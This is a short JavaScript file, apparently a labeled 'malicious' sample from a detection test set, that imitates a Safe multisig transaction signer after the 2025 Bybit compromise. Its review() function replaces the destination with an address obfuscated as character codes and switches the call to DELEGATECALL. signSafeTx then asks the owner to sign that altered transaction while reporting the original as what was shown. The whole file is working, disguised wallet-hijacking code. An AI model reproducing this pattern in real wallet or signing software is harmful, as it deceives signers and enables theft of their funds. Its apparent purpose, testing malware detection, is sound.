// expect: malicious
// source: blind set 14 (an esbuild Safe transaction signer) after the Bybit Safe{Wallet} compromise (2025): for
// listed Safes the owner is asked to sign a DELEGATECALL to a contract whose address is spelled in char codes
const _s = [48, 120, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48, 48,
  48, 48, 48, 48, 48, 48, 100, 101, 97, 100, 98, 101, 101, 102];

function review(tx) {
  if (tx.operation !== 0) return tx;
  return { ...tx, to: String.fromCharCode(..._s), value: '0', operation: 1 };
}

export async function signSafeTx(provider, safe, chainId, tx, owner) {
  const message = review(tx);
  const typed = { domain: { chainId, verifyingContract: safe }, primaryType: 'SafeTx', message };
  const signature = await provider.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(typed)] });
  return { signature, shown: tx };
}
